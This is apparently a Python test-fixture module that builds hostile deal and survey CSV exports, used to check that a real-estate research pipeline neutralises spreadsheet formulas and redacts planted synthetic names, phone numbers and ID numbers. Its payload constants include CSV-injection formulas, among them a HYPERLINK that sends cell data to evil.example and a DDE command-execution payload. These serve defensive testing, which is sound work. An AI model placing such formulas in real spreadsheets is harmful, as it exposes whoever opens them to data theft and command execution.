"""Hostile deal and survey exports written by the tests themselves (not by dealresearch.synth):
formula payloads in every text column a workbook may show, customer names / phones / ID
numbers planted in every free-text column, and text that breaks renderers ($…$ pairs,
control characters, 5,000- and 40,000-character values).

``PLANTED`` lists what must never come back in clear from the store, a report or a
workbook (names, phone digits, ID numbers)."""

from __future__ import annotations

import csv
import re
import unicodedata
from functools import cache
from pathlib import Path

import pandas as pd

from dealresearch.ingest.idcard import check_digit

#: text that a spreadsheet would run as a formula (OWASP CSV-injection starters)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A2,"点我查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NAMES = ("段伟", "张三丰", "欧阳娜娜", "李秀英", "周杰伦", "王建国")
EVIL_NAME = '=HYPERLINK("http://evil.example/?p="&H3,"联系")'  # a customer "name" that is a formula
EVIL_PROJECT = '=HYPERLINK("http://evil.example/","项目")'
PROJECTS = ("滨江壹号", EVIL_PROJECT)
LONG_PROJECT = "超长项目名" * 21  # 105 characters, 315 bytes: longer than a file name may be


def id_number(n: int) -> str:
    body = f"3301061985{1 + n % 9:02d}1{n % 10}{n % 1000:03d}"[:17]
    return body + check_digit(pd.Series([body])).iloc[0]


def phone(n: int) -> str:
    return f"139{n:04d}{(n * 7919) % 10000:04d}"


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in text)


def phone_forms(n: int) -> list[str]:
    """The same phone as customers and reps type it."""
    p = phone(n)
    return [
        f"{p[:3]} {p[3:7]} {p[7:]}",
        f"{p[:3]}-{p[3:7]}-{p[7:]}",
        "＋86 " + _full_width(p),
        f"+86-{p}",
        f"0086 {p}",
        _full_width(f"{p[:3]} {p[3:7]} {p[7:]}"),
    ]


N_CUSTOMERS = 12


def customers() -> pd.DataFrame:
    rows = []
    for i in range(N_CUSTOMERS):
        name = EVIL_NAME if i == N_CUSTOMERS - 1 else NAMES[i % len(NAMES)]  # namesakes from i = 6 on
        rows.append({"i": i, "name": name, "phone": phone(i), "id": id_number(i)})
    return pd.DataFrame(rows)


def deal_frame() -> pd.DataFrame:
    people = customers()
    rows = []
    for p in people.itertuples():
        forms = phone_forms(p.i)
        other = NAMES[(p.i + 1) % len(NAMES)]
        rows.append(
            {
                "合同编号": f"HT-{p.i:04d}",
                "项目名称": LONG_PROJECT if p.i == 5 else PROJECTS[p.i % 2],
                "城市": "杭州",
                "楼栋": FORMULAS[3],
                "房号": FORMULAS[4],
                "交易状态": "签约",
                "签约日期": f"2026-0{7 + p.i % 3}-{10 + p.i:02d}" if p.i % 4 else f"2025-0{4 + p.i % 5}-15",
                "成交总价": 1_000_000 + 10_000 * p.i,
                "建筑面积": 90 + p.i,
                "户型": "三房",
                "置业顾问": FORMULAS[p.i % len(FORMULAS)],
                "销售团队": FORMULAS[2],
                "客户姓名": p.name,
                "联系电话": p.phone,
                "证件号码": p.id,
                "工作区域": f"滨江区 {forms[p.i % len(forms)]}",
                "行业": f"金融 证件{id_number(p.i)}",
                "职业": f"我是{other}的同事，座机 0571-8{p.i:03d}6666"
                if p.i % 3
                else "$\\frac{工程师}{$ $x^$",
                "居住区域": f"{other}家附近 {forms[(p.i + 1) % len(forms)]}",
            }
        )
    return pd.DataFrame(rows)


def survey_frame() -> pd.DataFrame:
    people = customers()
    rows = []
    for p in people.itertuples():
        forms = phone_forms(p.i)
        other = NAMES[(p.i + 2) % len(NAMES)]
        comments = [
            f"我是{NAMES[p.i % len(NAMES)]}，房子漏水，电话 {forms[p.i % len(forms)]}",
            f"{other}说物业很差，{NAMES[p.i % len(NAMES)]}先生也这么认为",
            f"身份证 {id_number(p.i)[:6]} {id_number(p.i)[6:14]} {id_number(p.i)[14:]}，请回电 {forms[-1]}",
            FORMULAS[p.i % len(FORMULAS)] + f" {NAMES[p.i % len(NAMES)]}",
            "成本 $1,000 与 $\\frac{a}{ 之间 $x$ 与 $y$",
            "很长的意见" * 1000,  # 5,000 characters without a break
            ("四万字的意见。" * 5800)[:40_000],
            "带控制字符\x01\x07的意见\x1b[31m",
        ]
        rows.append(
            {
                "调查编号": f"SV-{p.i:04d}",
                "调查日期": f"2026-08-{1 + p.i:02d}",
                "调查方式": "电话",
                "项目": LONG_PROJECT if p.i == 5 else PROJECTS[p.i % 2],
                "调查人": FORMULAS[(p.i + 1) % len(FORMULAS)],
                "意见和建议": comments[p.i % len(comments)],
                "客户姓名": p.name,
                "联系电话": p.phone,
                "证件号码": p.id,
                "服务态度": 1,
                "总体满意度": 1 + p.i % 2,
                "推荐意愿": p.i % 5,
                "是否投诉": "是",
                "是否需要跟进": "是",
            }
        )
    return pd.DataFrame(rows)


def write_inputs(folder: Path) -> tuple[Path, Path]:
    """The hostile deal and survey exports as CSV (text kept exactly as typed)."""
    folder.mkdir(parents=True, exist_ok=True)
    deals, surveys = folder / "成交_hostile.csv", folder / "调查_hostile.csv"
    deal_frame().to_csv(deals, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
    survey_frame().to_csv(surveys, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
    return deals, surveys


# ------------------------------------------------------------------------------ scans
@cache
def planted() -> dict[str, list[str]]:
    """What must never appear in clear: names, phone digits, ID numbers."""
    people = customers()
    ids = [id_number(i) for i in range(N_CUSTOMERS)]
    return {"names": list(NAMES), "phones": list(people["phone"]), "ids": ids}


_NOT_DIGIT = re.compile(r"[^0-9Xx]+")


def _digits(text: str) -> str:
    return _NOT_DIGIT.sub("", unicodedata.normalize("NFKC", text))


def leaks(text: str, what: dict[str, list[str]] | None = None) -> list[str]:
    """The planted values ``text`` shows in clear (separators and full-width digits ignored)."""
    what = what or planted()
    digits = _digits(text)
    found = [n for n in what["names"] if n in text]
    found += [p for p in what["phones"] if p in digits]
    found += [i for i in what["ids"] if i in digits or i[:17] in digits]
    return found


def live_formula_cells(path: Path) -> list[str]:
    """Cells of a workbook (read with openpyxl) that are formulas or text starting like one."""
    import openpyxl

    bad = []
    book = openpyxl.load_workbook(path)  # formulas as written (no cached values)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{ws.title}!{cell.coordinate} 公式 {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    bad.append(f"{ws.title}!{cell.coordinate} 文本 {cell.value[:30]!r}")
    return bad


def workbook_texts(path: Path) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(path)
    return [
        str(cell.value)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]
